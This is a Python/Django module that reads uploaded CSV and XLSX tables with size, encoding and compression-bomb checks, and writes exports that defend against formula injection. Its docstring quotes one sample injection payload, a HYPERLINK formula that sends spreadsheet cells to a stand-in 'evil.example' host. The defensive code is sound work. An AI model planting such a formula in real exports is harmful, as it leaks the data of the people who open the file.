"""One reader and one writer for every table that comes in or goes out (CSV and XLSX).

**Reading** (``read_table``): every import (ISTAT population, providers' deliveries, the budget spreadsheet,
the HSDS tabular package) reads its file here, so the checks are the same everywhere and made before any row
is looked at:

- the size of the file (``max_bytes``, by default the upload limit ``AMBITO_MAX_UPLOAD_MB``);
- CSV: UTF-8 (with or without BOM), else Windows-1252 as Excel writes it; a NUL character refuses the file
  (a binary file, and PostgreSQL text cannot hold NUL); the delimiter is the one of ``;``, ``,`` and tab that
  the header line has most of (``;`` on a tie, as Italian spreadsheets write);
- XLSX: the sizes the archive declares are checked before openpyxl opens it (an XLSX is a zip: a file of
  half a megabyte can expand to gigabytes), then the sheets are streamed (``read_only=True``) row by row;
- the number of rows (``max_rows``, blank rows included: they cost as much to read) and of columns;
- the errors the import collects on the rows (``Table.errors``, at most ``max_errors`` listed).

Every refusal is an ``ImportRejected`` with a message saying what to do, and the imports stay all or nothing.

**Writing** (``write_csv``, ``csv_stream``, ``write_xlsx``) and **downloading** (``download_response``): every
export writes its cells here. A text cell that a spreadsheet would run as a formula (it starts with ``=``,
``+``, ``-``, ``@``, tab or carriage return) gets a ``'`` in front (OWASP, *CSV injection*): exports hold
names typed by users and by providers (services, interventions, organisations), and a cell such as
``=HYPERLINK("http://evil.example/?"&A1, "SAD")`` would otherwise send the next cells to a stranger when the
file is opened. A text that is a plain number (``-1``, ``+3,5``) is left as it is: no spreadsheet runs it, and
it must keep its value. In an XLSX every text is also written as text (openpyxl would store a string starting
with ``=`` as a formula). ``download_response`` is the one place that sets the headers of a download.
"""

import csv
import datetime
import io
import re
import unicodedata
import xml.etree.ElementTree as ElementTree
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import PurePath
from typing import NoReturn

from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.utils.formats import number_format
from django.utils.http import content_disposition_header
from django.utils.translation import gettext as _

from ambito.core.imports import MAX_ERRORS, ErrorList, ImportRejected, RowError

# --- Caps ----------------------------------------------------------------------------------------------------

# Rows of one file, blank rows included. The largest file an import expects is an ISTAT population file of a
# large province (about 300 Comuni x 102 rows); each import may set its own cap.
MAX_ROWS = 20_000
# The header is looked for in the first lines only (an ISTAT file has a title line above it).
HEADER_SEARCH = 20
# Columns of a sheet: the budget has one per funding source and one per Comune, a few dozen.
MAX_COLUMNS = 256
# XLSX, checked on the sizes the archive declares, before openpyxl reads it. Python's zipfile never hands out
# more bytes than a member declares (and fails the CRC check if the data would go on), so these bounds hold
# even for an archive built to lie.
XLSX_MAX_UNCOMPRESSED = 50 * 1024 * 1024  # every member together
# The parts openpyxl reads whole into memory even in read-only mode (shared strings, styles, workbook,
# relationships): anything but the worksheets, which are streamed.
XLSX_MAX_WHOLE = 10 * 1024 * 1024
XLSX_MAX_RATIO = 200  # a member that expands more than this (above 1 MB) is a compression bomb, not a sheet
XLSX_RATIO_FLOOR = 1024 * 1024
XLSX_MAX_MEMBERS = 500
XLSX_MAX_CONTENT_TYPES = 1024 * 1024
# openpyxl builds every element of a row before it yields the row (50 MB of <c/> in one row is ten million
# elements, gigabytes), takes about 3.5 microseconds an element, and parses a whole sheet once more at opening
# when the sheet has no <dimension>. So the markup is counted first, on the decompressed stream of every part
# (C speed, nothing built): rows against the import's row cap, elements of one row against the column cap, and
# every "<" of the workbook (an element is one or two) against 100 a row of the row cap (the budget's 5,000
# rows: 500,000, about 2 s of openpyxl at worst), or XLSX_MAX_MARKUP when the rows are not capped.
XLSX_MARKUP_PER_ROW = 100
XLSX_MAX_MARKUP = 4_000_000
_ROW_OR_END = re.compile(rb"<(?:[A-Za-z_][\w.-]{0,30}:)?row[\s/>]|</(?:[A-Za-z_][\w.-]{0,30}:)?sheetData\s*>")
_SCAN_CHUNK, _SCAN_OVERLAP = 1024 * 1024, 128
WORKSHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"

DELIMITERS = (";", ",", "\t")  # in order of preference on a tie


def _mb(size: int) -> int:
    return max(size // (1024 * 1024), 1)


def _refuse(message: str, row: int = 0) -> NoReturn:
    raise ImportRejected([RowError(row, message)])


def not_text_file() -> NoReturn:
    _refuse(_("The file is not a text (CSV) file."))


def not_workbook() -> NoReturn:
    _refuse(_("The file is not an Excel workbook (.xlsx)."))


def _too_large(limit: int) -> NoReturn:
    _refuse(_("The file is larger than %(mb)s MB.") % {"mb": _mb(limit)})


def _too_large_uncompressed(limit: int) -> NoReturn:
    _refuse(_("The workbook is too large once uncompressed (more than %(mb)s MB): save it again from the "
              "spreadsheet program without empty rows and columns, or split it.") % {"mb": _mb(limit)})


# --- Reading ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Row:
    number: int  # 1-based line (CSV: the line the record starts on) or row of the sheet
    cells: tuple  # as read: strings for CSV; str, numbers, dates or None for XLSX
    values: dict  # header key -> cell (None where the row is shorter than the header)
    sheet: str = ""


@dataclass
class Sheet:
    name: str  # "" for a CSV file
    header: tuple | None  # the header cells as written (None: no header line found)
    header_row: int  # its line or row number (0 when not found)
    preamble: list[str]  # the non-header lines above it, stripped (an ISTAT title line)
    rows: Iterator[Row]  # the rows below the header, blank rows left out, read as they are asked for


@dataclass
class Table:
    sheets: Iterator[Sheet]
    errors: ErrorList  # where the import collects its errors on the rows

    @property
    def sheet(self) -> Sheet:
        """The (first) sheet: the only one of a CSV file."""
        if not hasattr(self, "_first"):
            self._first = next(self.sheets, None) or Sheet("", None, 0, [], iter(()))
        return self._first

    def __iter__(self):
        if hasattr(self, "_first"):
            yield self._first
        yield from self.sheets


class _RowCounter:
    def __init__(self, limit: int | None):
        self.limit, self.count = limit, 0

    def tick(self):
        self.count += 1
        if self.limit is not None and self.count > self.limit:
            _refuse(_("The file has more than %(rows)s rows (empty rows included): split it into smaller files.")
                    % {"rows": number_format(self.limit, force_grouping=True)})


def _is_blank(cells) -> bool:
    return all(cell is None or (isinstance(cell, str) and not cell.strip()) for cell in cells)


def _first_non_blank(cells) -> bool:
    return True


def decode_text(data: bytes) -> str:
    """An uploaded text file as text: UTF-8 (with or without BOM), else Windows-1252 as Excel writes it.
    Refused (``ImportRejected``) when neither decodes it or it holds a NUL character."""
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        try:
            text = data.decode("cp1252")
        except UnicodeDecodeError:
            not_text_file()
    if "\x00" in text:  # a binary file, and PostgreSQL text cannot hold NUL
        not_text_file()
    return text


def sniff_delimiter(line: str) -> str:
    counts = {delimiter: line.count(delimiter) for delimiter in DELIMITERS}
    return max(DELIMITERS, key=lambda d: (counts[d], -DELIMITERS.index(d)))


def _split_line(line: str, delimiter: str) -> list[str]:
    try:
        return next(csv.reader([line.rstrip("\r\n")], delimiter=delimiter), [])
    except csv.Error:
        not_text_file()


def _csv_sheet(text: str, *, find_header, header_key, delimiter, counter) -> Sheet:
    stream = io.StringIO(text, newline="")
    preamble: list[str] = []
    header, header_row, separator = None, 0, delimiter or ";"
    for number in range(1, HEADER_SEARCH + 1):
        line = stream.readline()
        if not line:
            break
        counter.tick()
        if not line.strip():
            continue
        separator = delimiter or sniff_delimiter(line)
        cells = _split_line(line, separator)
        if find_header(cells):
            header, header_row = tuple(cells), number
            break
        preamble.append(line.strip())
    keys = [header_key(cell) for cell in header] if header else []

    def rows() -> Iterator[Row]:
        if header is None:
            return
        reader = csv.reader(stream, delimiter=separator)
        read = 0
        while True:
            try:
                cells = next(reader)
            except StopIteration:
                return
            except csv.Error:  # a stray carriage return, a field past the csv module's size limit
                not_text_file()
            number, read = header_row + read + 1, reader.line_num
            counter.tick()
            if _is_blank(cells):
                continue
            values = {key: cells[index] if index < len(cells) else None for index, key in enumerate(keys)}
            yield Row(number, tuple(cells), values)

    return Sheet("", header, header_row, preamble, rows())


def _worksheet_parts(archive: zipfile.ZipFile, infos) -> set[str]:
    """The members that openpyxl streams: parts the manifest declares only as worksheets. Everything else is
    counted as read whole (stricter if the manifest lies)."""
    by_name = {info.filename: info for info in infos}
    manifest = by_name.get("[Content_Types].xml")
    if manifest is None or manifest.file_size > XLSX_MAX_CONTENT_TYPES:
        not_workbook()
    try:  # the parser openpyxl uses on every part; expat >= 2.4 bounds entity expansion, the part is <= 1 MB
        root = ElementTree.fromstring(archive.read(manifest))  # noqa: S314
    except (ElementTree.ParseError, zipfile.BadZipFile, OSError, ValueError):
        not_workbook()
    declared: dict[str, set] = {}
    for override in root.iter():
        if override.tag.rsplit("}", 1)[-1] == "Override":
            name = (override.get("PartName") or "").lstrip("/")
            declared.setdefault(name, set()).add(override.get("ContentType"))
    return {name for name, types in declared.items() if types == {WORKSHEET_TYPE}}


class _MarkupScan:
    def __init__(self, max_rows: int | None, max_columns: int):
        self.rows, self.markup = _RowCounter(max_rows), 0
        self.markup_limit = XLSX_MAX_MARKUP if max_rows is None else max(max_rows, 1000) * XLSX_MARKUP_PER_ROW
        self.row_limit, self.max_columns = max_columns * 8 + 16, max_columns  # <c><is><t>..</t></is></c>: 6

    def add(self, count: int, row_markup: int | None) -> int | None:
        self.markup += count
        if self.markup > self.markup_limit:
            _refuse(_("The workbook has too many cells (more than about %(cells)s): split it.")
                    % {"cells": number_format(self.markup_limit // 4, force_grouping=True)})
        if row_markup is None:
            return None
        if row_markup + count > self.row_limit:
            _refuse(_("A row of the workbook has more than %(columns)s columns.") % {"columns": self.max_columns})
        return row_markup + count

    def member(self, stream):
        """Count the rows and the markup of one part, a chunk at a time (a match may not straddle a cut)."""
        tail, row_markup = b"", None
        while True:
            chunk = stream.read(_SCAN_CHUNK)
            buffer = tail + chunk
            cut = len(buffer) if not chunk else max(len(buffer) - _SCAN_OVERLAP, 0)
            position = 0
            for match in _ROW_OR_END.finditer(buffer):
                if match.start() >= cut:
                    break
                row_markup = self.add(buffer.count(b"<", position, match.start()), row_markup)
                position = match.start()
                if match.group().startswith(b"</"):
                    row_markup = None  # past the rows: merged cells, validations, not one row's
                else:
                    self.rows.tick()
                    row_markup = 0
            row_markup = self.add(buffer.count(b"<", position, cut), row_markup)
            if not chunk:
                return
            tail = buffer[cut:]


def check_xlsx_archive(data: bytes, *, max_rows: int | None = MAX_ROWS, max_columns: int = MAX_COLUMNS):
    """Refuse an XLSX whose members would expand past the caps, before openpyxl opens it: first on the sizes
    the archive declares, then on the markup of the decompressed parts (rows, cells in a row, elements)."""
    max_uncompressed = XLSX_MAX_UNCOMPRESSED
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            infos = archive.infolist()
            if len(infos) > XLSX_MAX_MEMBERS:
                _refuse(_("The workbook has too many parts (more than %(count)s).") % {"count": XLSX_MAX_MEMBERS})
            if sum(info.file_size for info in infos) > max_uncompressed:
                _too_large_uncompressed(max_uncompressed)
            for info in infos:
                if info.file_size > XLSX_RATIO_FLOOR and info.file_size > XLSX_MAX_RATIO * max(info.compress_size, 1):
                    _refuse(_("The workbook is compressed in an unusual way (one part expands %(ratio)s times): it "
                              "is refused because it could exhaust the server's memory.")
                            % {"ratio": info.file_size // max(info.compress_size, 1)})
            streamed = _worksheet_parts(archive, infos)
            if sum(info.file_size for info in infos if info.filename not in streamed) > XLSX_MAX_WHOLE:
                _too_large_uncompressed(XLSX_MAX_WHOLE)
            # Every part, not only those the manifest calls worksheets: openpyxl opens the sheets the
            # workbook's relationships name, whatever their name or declared type.
            scan = _MarkupScan(max_rows, max_columns)
            for info in infos:
                with archive.open(info) as stream:
                    scan.member(stream)
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, ValueError, EOFError):
        not_workbook()


def _guarded(iterator: Iterator) -> Iterator:
    """openpyxl raises many kinds of exception on a damaged workbook, while a sheet is read: one refusal."""
    while True:
        try:
            item = next(iterator)
        except StopIteration:
            return
        except ImportRejected:
            raise
        except Exception:
            not_workbook()
        yield item


def _open_workbook(data: bytes, *, max_rows: int | None, max_columns: int):
    from openpyxl import load_workbook

    check_xlsx_archive(data, max_rows=max_rows, max_columns=max_columns)
    try:
        return load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception:  # openpyxl raises many kinds for a file that is not a workbook
        not_workbook()


def _xlsx_sheets(workbook, *, find_header, header_key, counter, max_columns) -> Iterator[Sheet]:
    try:
        for worksheet in workbook.worksheets:
            yield _xlsx_sheet(worksheet, find_header=find_header, header_key=header_key, counter=counter,
                              max_columns=max_columns)
    finally:
        workbook.close()


def _xlsx_sheet(worksheet, *, find_header, header_key, counter, max_columns) -> Sheet:
    name = str(worksheet.title)
    too_wide = _("The sheet “%(sheet)s” has more than %(columns)s columns.") % {"sheet": name, "columns": max_columns}
    declared = worksheet.max_column  # from the sheet's <dimension>, when it has one
    if declared and declared > max_columns:
        _refuse(too_wide)
    # The declared dimension is not trusted for reading: openpyxl would pad every row to it (A1:XFD1048576 is
    # 16,384 cells a row, and a million rows). Without it a row is as wide as its last cell, and the first row
    # with a value past the cap refuses the sheet.
    worksheet.reset_dimensions()
    source = _guarded(worksheet.iter_rows(values_only=True))

    def cells_of(number: int, values) -> tuple:
        if len(values) > max_columns and any(value is not None for value in values[max_columns:]):
            _refuse(too_wide, row=number)
        values = list(values[:max_columns])
        while values and values[-1] is None:
            values.pop()
        return tuple(values)

    preamble: list[str] = []
    header, header_row, number = None, 0, 0
    for values in source:
        number += 1
        counter.tick()
        cells = cells_of(number, values)
        if _is_blank(cells):
            if number >= HEADER_SEARCH:
                break
            continue
        texts = ["" if cell is None else str(cell) for cell in cells]
        if find_header(texts):
            header, header_row = tuple(texts), number
            break
        preamble.append(" ".join(text for text in texts if text).strip())
        if number >= HEADER_SEARCH:
            break
    keys = [header_key(cell) for cell in header] if header else []

    def rows() -> Iterator[Row]:
        if header is None:
            return
        current = header_row
        for values in source:
            current += 1
            counter.tick()
            cells = cells_of(current, values)
            if _is_blank(cells):
                continue
            row_values = {key: cells[index] if index < len(cells) else None for index, key in enumerate(keys)}
            yield Row(current, cells, row_values, sheet=name)

    return Sheet(name, header, header_row, preamble, rows())


def _strip(text: str) -> str:
    return text.strip()


def read_table(data, *, kind: str | None = None, filename: str = "", max_bytes: int | None = None,
               max_rows: int | None = MAX_ROWS, max_errors: int = MAX_ERRORS, max_columns: int = MAX_COLUMNS,
               delimiter: str | None = None, find_header: Callable[[list[str]], bool] = _first_non_blank,
               header_key: Callable[[str], str] = _strip, required_columns: Sequence[str] = ()) -> Table:
    """Read an uploaded table: ``data`` is bytes or a binary file; ``kind`` is ``"csv"`` or ``"xlsx"`` (else
    taken from ``filename``'s extension). The header is the first line (or row) among the first
    ``HEADER_SEARCH`` for which ``find_header(cells)`` is true (by default the first one that is not blank);
    rows are keyed by ``header_key(header cell)``; ``required_columns`` are header keys that must be there.
    ``max_rows=None`` lifts the row cap (an import from a trusted command). Raises ``ImportRejected``."""
    from ambito.core.uploads import max_upload_bytes

    limit = max_upload_bytes() if max_bytes is None else max_bytes
    if hasattr(data, "read"):
        if hasattr(data, "seek"):
            data.seek(0)
        data = data.read(limit + 1)
    if len(data) > limit:
        _too_large(limit)
    kind = (kind or PurePath(filename).suffix.lstrip(".")).lower()
    counter = _RowCounter(max_rows)
    if kind == "xlsx":
        workbook = _open_workbook(data, max_rows=max_rows, max_columns=max_columns)
        sheets = _xlsx_sheets(workbook, find_header=find_header, header_key=header_key, counter=counter,
                              max_columns=max_columns)
        sheets = (_with_columns(sheet, required_columns, header_key) for sheet in sheets)
    elif kind in ("csv", "txt"):
        sheet = _csv_sheet(decode_text(data), find_header=find_header, header_key=header_key, delimiter=delimiter,
                           counter=counter)
        sheets = iter([_with_columns(sheet, required_columns, header_key)])
    else:
        raise ValueError(f"unknown table kind {kind!r}")
    return Table(sheets, ErrorList(max_errors))


def _with_columns(sheet: Sheet, required: Sequence[str], header_key) -> Sheet:
    present = {header_key(cell) for cell in sheet.header or ()}
    missing = [column for column in required if column not in present]
    if missing:
        _refuse(_("Missing column(s): %(cols)s.") % {"cols": ", ".join(missing)}, row=sheet.header_row)
    return sheet


# --- Writing --------------------------------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
_TYPED = (int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)  # bool is an int


def neutralised(value):
    """The cell as it is safe to write: numbers, dates and None unchanged; anything else as text, with a ``'``
    in front when a spreadsheet would run it as a formula and it is not a plain number."""
    if value is None or isinstance(value, _TYPED):
        return value
    text = str(value)
    if text[:1] in FORMULA_START and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def _csv_cells(row, neutralise: bool) -> list:
    return [neutralised(value) for value in row] if neutralise else list(row)


class _Echo:
    def write(self, value):
        return value


def csv_stream(rows: Iterable[Sequence], columns: Sequence[str] | None = None, *, delimiter: str = ";",
               neutralise: bool = True, lineterminator: str = "\r\n") -> Iterator[str]:
    """The CSV one line at a time (for a ``StreamingHttpResponse`` or a zip member)."""
    writer = csv.writer(_Echo(), delimiter=delimiter, lineterminator=lineterminator)
    if columns is not None:
        yield writer.writerow(_csv_cells(columns, neutralise))
    for row in rows:
        yield writer.writerow(_csv_cells(row, neutralise))


def write_csv(rows: Iterable[Sequence], columns: Sequence[str] | None = None, *, handle=None,
              delimiter: str = ";", neutralise: bool = True, lineterminator: str = "\r\n"):
    """The CSV as text, or written to ``handle`` (a text file opened with ``newline=""``) row by row, returning
    the number of rows below the header. ``neutralise=False`` only for data-interchange files that no one opens
    in a spreadsheet and whose values must come back exactly (the HSDS data package)."""
    lines = csv_stream(rows, columns, delimiter=delimiter, neutralise=neutralise, lineterminator=lineterminator)
    if handle is None:
        return "".join(lines)
    count = -1 if columns is not None else 0
    for line in lines:
        handle.write(line)
        count += 1
    return count


@dataclass
class XlsxSheet:
    title: str  # cut to the 31 characters a sheet name may have
    rows: Iterable[Sequence]
    bold_rows: Sequence[int] = ()  # 1-based rows written in bold (headers)
    number_formats: Mapping[int, str] = field(default_factory=dict)  # 1-based column -> format, non-bold rows
    widths: Mapping[int, float] = field(default_factory=dict)  # 1-based column -> width
    freeze_panes: str | None = None


def write_xlsx(sheets: Iterable[XlsxSheet], *, neutralise: bool = True) -> bytes:
    """An XLSX workbook, one sheet per ``XlsxSheet`` (an iterable: a generator may do work between sheets).
    Every text is written as text, never as a formula."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook()
    workbook.remove(workbook.active)
    bold = Font(bold=True)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.title[:31])
        bold_rows = set(spec.bold_rows)
        for number, row in enumerate(spec.rows, start=1):
            for column, value in enumerate(row, start=1):
                value = neutralised(value) if neutralise else value
                formatted = number not in bold_rows and column in spec.number_formats
                if value is None and not formatted:
                    continue
                if value is not None and not isinstance(value, _TYPED):
                    value = ILLEGAL_CHARACTERS_RE.sub("", str(value))
                cell = sheet.cell(row=number, column=column, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"  # openpyxl takes a string starting with "=" for a formula
                if number in bold_rows:
                    cell.font = bold
                elif formatted:
                    cell.number_format = spec.number_formats[column]
        for column, width in spec.widths.items():
            sheet.column_dimensions[get_column_letter(column)].width = width
        if spec.freeze_panes:
            sheet.freeze_panes = spec.freeze_panes
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- Downloads -------------------------------------------------------------------------------------------------

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "zip": "application/zip",
    "json": "application/json",
    "pdf": "application/pdf",
    "jpg": "image/jpeg",
    "jpeg": "image/jpeg",
    "png": "image/png",
    "txt": "text/plain; charset=utf-8",
}


def safe_filename(name: str, default: str = "download") -> str:
    """A file name any browser and file system takes: no folders, ASCII letters, digits, ``.``, ``-``, ``_``."""
    base = PurePath(str(name).replace("\\", "/")).name
    text = unicodedata.normalize("NFKD", base).encode("ascii", "ignore").decode("ascii")
    text = re.sub(r"-+\.", ".", re.sub(r"[^A-Za-z0-9._-]+", "-", text)).strip("-.")
    stem, dot, extension = text.rpartition(".")
    if len(text) > 150:
        text = f"{stem[:140]}.{extension[:8]}" if dot else text[:150]
    return text or default


def download_response(content, *, filename: str, kind: str | None = None, content_type: str | None = None):
    """The answer that downloads a file: ``content`` is bytes or text (``HttpResponse``), a binary file
    (``FileResponse``) or an iterable of chunks (``StreamingHttpResponse``). It sets the content type (given, or
    from ``kind``, else from the file name's extension), ``Content-Disposition: attachment`` with a safe file
    name, and ``Cache-Control: no-store``: exports and attachments may hold person data."""
    name = safe_filename(filename)
    kind = (kind or PurePath(name).suffix.lstrip(".")).lower()
    content_type = content_type or CONTENT_TYPES.get(kind, "application/octet-stream")
    if hasattr(content, "read"):
        response = FileResponse(content, as_attachment=True, filename=name, content_type=content_type)
    elif isinstance(content, bytes | str):
        response = HttpResponse(content, content_type=content_type)
    else:
        response = StreamingHttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(True, name)
    response["Cache-Control"] = "no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response
